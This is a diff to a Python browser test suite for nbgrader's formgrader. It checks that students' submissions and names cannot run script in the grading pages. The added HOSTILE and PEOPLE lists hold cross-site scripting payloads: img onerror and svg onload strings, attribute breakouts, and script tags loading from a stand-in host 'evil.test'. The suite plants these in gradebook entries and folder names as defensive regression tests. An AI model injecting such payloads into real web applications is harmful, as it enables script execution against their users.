@@ -1,11 +1,12 @@
 """nbgrader's formgrader in a real browser: what students wrote does nothing there, and it grades.
 
-A Jupyter server runs in a course, without a token, on this machine only. MathJax is the one thing
-that formgrader's pages ask another host for; here a stand-in answers, and all else is noted.
+A Jupyter server runs in a course, without a token, on this machine only; what its pages ask for is
+noted. Under nbgrader's own settings they ask another host for MathJax; there a stand-in answers.
 """
 
 import json
 import re
+import shutil
 import socket
 import sqlite3
 import subprocess
@@ -14,7 +15,7 @@ import time
 import urllib.error
 import urllib.request
 from contextlib import closing, contextmanager
-from urllib.parse import urlsplit
+from urllib.parse import quote, urlsplit
 
 import pytest
 from courses import run_module
@@ -192,6 +193,18 @@ def wait_for(address, server, log, seconds=60):
     pytest.fail(f"no server: {log.read_text()[-3000:]}")
 
 
+@contextmanager
+def changed_config(course, change):
+    """Change the course's configuration for a while."""
+    config = course / "nbgrader_config.py"
+    shipped = config.read_text(encoding="utf-8")
+    config.write_text(change(shipped), encoding="utf-8")
+    try:
+        yield
+    finally:
+        config.write_text(shipped, encoding="utf-8")
+
+
 @pytest.fixture(scope="module")
 def server(course, make_course):
     with serving(course, make_course.environment) as address:
@@ -203,7 +216,7 @@ class Visit:
 
     def __init__(self, tab, address):
         self.tab, self.address = tab, address
-        self.requests, self.ran, self.errors = [], [], []
+        self.requests, self.ran, self.errors, self.refused = [], [], [], []
         tab.add_init_script(WATCH)
         tab.route("**/*", self.answer)
         tab.on("dialog", self.dismiss)
@@ -217,6 +230,8 @@ class Visit:
     def note(self, message):
         if message.text.startswith("script ran"):
             self.ran.append(message.text)
+        if "Content Security Policy" in message.text:
+            self.refused.append(message.text)
 
     def answer(self, route):
         url = route.request.url
@@ -236,12 +251,11 @@ class Visit:
 
     @property
     def odd_requests(self):
-        """Which requests are neither formgrader's own nor the one for MathJax."""
+        """Which requests are not formgrader's own."""
         return [
             url
             for url in self.requests
-            if url.split("?")[0] != MATHJAX
-            and not (url.startswith(self.address) and SERVED.match(urlsplit(url).path))
+            if not (url.startswith(self.address) and SERVED.match(urlsplit(url).path))
         ]
 
 
@@ -305,8 +319,8 @@ def test_right_submission_is_shown(server, visit, course):
     scores = page.tab.locator("input.score").all()
     assert [float(score.get_attribute("placeholder")) for score in scores] == [*FULL.values()]
     assert not page.errors
+    assert not page.refused
     assert not page.odd_requests
-    assert MATHJAX in [url.split("?")[0] for url in page.requests]
 
 
 @pytest.mark.parametrize("student", [*SHOWN, "markdown", "outputs", "raw"])
@@ -330,16 +344,127 @@ def test_hostile_submission_is_shown_and_does_nothing(server, visit, student):
 
 def test_the_same_payload_runs_under_stock_settings(course, make_course, visit):
     """So that the tests above can fail."""
-    config = course / "nbgrader_config.py"
-    shipped = config.read_text(encoding="utf-8")
-    config.write_text(shipped.partition("# Students' code runs")[0], encoding="utf-8")
-    try:
-        with serving(course, make_course.environment) as address:
+    stock = lambda text: text.partition("# Students' code runs")[0]  # noqa: E731
+    with changed_config(course, stock), serving(course, make_course.environment) as address:
+        page = visit(address)
+        page.open(f"/formgrader/submissions/{submissions(address)['raw']}/")
+        assert page.ran
+
+
+HOSTILE = [
+    f"<img src=x onerror={RUN}>",
+    f'";{RUN};"',
+    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
+    f"a><img\nsrc=x onerror={RUN}>&",  # DataTables strips tags within a line and decodes the rest
+    f"<img src=x onerror={RUN}>#",  # its address is another one, and the page says so
+    "<img src='https:evil.test'>",
+    f"{{{{ {RUN} }}}}</textarea><svg onload={RUN}>".replace("/", ""),
+]
+PEOPLE = [*HOSTILE, f"</script><script>{RUN}</script>", "<script src=//evil.test></script>"]
+
+
+@pytest.fixture(scope="module")
+def named(course):
+    """Give folders hostile names, and people, of whom one has a graded notebook."""
+    for name in HOSTILE:
+        hand_in(course, name, {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+    with closing(sqlite3.connect(course / "gradebook.db")) as gradebook, gradebook:
+        for number, name in enumerate(PEOPLE):
+            gradebook.execute(
+                "insert into student (id, first_name, last_name, email) values (?, ?, ?, ?)",
+                (f"person{number}", name, name, name),
+            )
+        gradebook.execute(
+            "update student set first_name = ?, last_name = ? where id = 'outputs'",
+            (PEOPLE[-2], PEOPLE[0]),
+        )
+    yield
+    for name in HOSTILE:
+        shutil.rmtree(course / "submitted" / name)
+
+
+def places(address):
+    """Where names are shown: the lists, a page for each name, a submission."""
+    lists = [f"manage_submissions/{NAME}", "manage_students", f"gradebook/{NAME}/{NAME}"]
+    pages = [f"manage_students/{quote(name, safe='')}" for name in PEOPLE]
+    pages += [f"{page}/{NAME}" for page in pages]
+    return [*lists, *pages, f"submissions/{submissions(address)['outputs']}/"]
+
+
+def look_at_names(page, place):
+    """Open a page; in the list of submissions, click on one that cannot be graded."""
+    page.open(f"/formgrader/{place}")
+    if place.startswith("manage_submissions"):
+        row = page.tab.locator("#main-table tr", has_text=f"{HOSTILE[0]}#")
+        row.locator(".autograde a").click()
+        page.tab.locator("#error-modal .modal-body").wait_for()
+    page.tab.wait_for_timeout(100)
+
+
+@pytest.mark.usefixtures("named")
+def test_hostile_names_are_text(server, visit):
+    for place in places(server):
+        page = visit(server)
+        look_at_names(page, place)
+        assert not page.ran, place
+        assert not page.errors, place
+        assert not [url for url in page.requests if not url.startswith(server)], place
+    page.open(f"/formgrader/manage_students/{quote(PEOPLE[-2], safe='')}")
+    assert page.tab.locator(".breadcrumb .active").inner_text() == PEOPLE[-2]
+    assert page.tab.evaluate("student_id") == PEOPLE[-2]
+
+
+@pytest.mark.usefixtures("named")
+def test_hostile_names_run_without_the_guard(course, make_course, visit):
+    """So that the test above can fail."""
+    bare = lambda text: text.replace("\nguard()\n", "\n")  # noqa: E731
+    with changed_config(course, bare), serving(course, make_course.environment) as address:
+        ran = {}
+        for place in places(address):
             page = visit(address)
-            page.open(f"/formgrader/submissions/{submissions(address)['raw']}/")
-            assert page.ran
+            look_at_names(page, place)
+            kind = place.split("/")[0], place.count("/")
+            ran[kind] = ran.get(kind, False) or bool(page.ran)
+    assert ran["manage_submissions", 1]
+    assert ran["manage_students", 1]
+    assert ran["manage_students", 2]
+    assert ran["submissions", 2]
+
+
+def test_page_still_does_what_its_own_handlers_say(server, visit):
+    page = visit(server)
+    page.open("/formgrader/manage_students")
+    page.tab.get_by_text("Add new student").click()
+    page.tab.locator("#add-student-modal").wait_for()
+    page.open(f"/formgrader/gradebook/{NAME}/{NAME}")
+    page.tab.locator("#toggle_names").click()
+    assert page.tab.locator("#toggle_names").inner_text() == "Hide All Names"
+    page.open(f"/formgrader/submissions/{submissions(server)['right']}/")
+    page.tab.locator(".glyphicon.name-hidden").click()
+    page.tab.locator("a.name-shown", has_text="right").wait_for()
+    assert not page.refused
+
+
+@pytest.mark.parametrize(
+    ("time", "zone"),
+    [
+        ("9999-12-31 23:59:59", "Pacific/Kiritimati"),
+        ("0001-01-01 00:00:00", "Pacific/Pago_Pago"),
+    ],
+)
+def test_time_at_the_end_of_the_calendar_is_none(course, make_course, visit, time, zone):
+    stamp = course / "submitted" / "right" / NAME / "timestamp.txt"
+    stamp.write_text(time, encoding="utf-8")
+    try:
+        zoned = lambda text: f"{text}\nc.NbGraderAPI.timezone = {zone!r}\n"  # noqa: E731
+        with changed_config(course, zoned), serving(course, make_course.environment) as address:
+            page = visit(address)
+            page.open(f"/formgrader/manage_submissions/{NAME}")
+            row = page.tab.locator("#main-table tr", has_text="right").first
+            row.wait_for()
+            assert row.locator(".timestamp").inner_text() == "None"
     finally:
-        config.write_text(shipped, encoding="utf-8")
+        stamp.unlink()
 
 
 # --- what it does -----------------------------------------------------------------------------
@@ -407,6 +532,9 @@ def test_course_below_the_servers_folder(course, make_course, visit):
             page.open(f"/formgrader/submissions/{submissions(address)[student]}/")
             assert page.ran == []
             assert page.tab.locator(".nbgrader_cell").count() == 2 * len(FULL)
+        page.open(f"/formgrader/manage_students/{quote(PEOPLE[0])}")
+        assert page.tab.locator(".breadcrumb .active").inner_text() == PEOPLE[0]
+        assert page.ran == []
 
 
 def test_filters_of_a_server_above_the_course_are_its_own(course, make_course, visit, tmp_path):
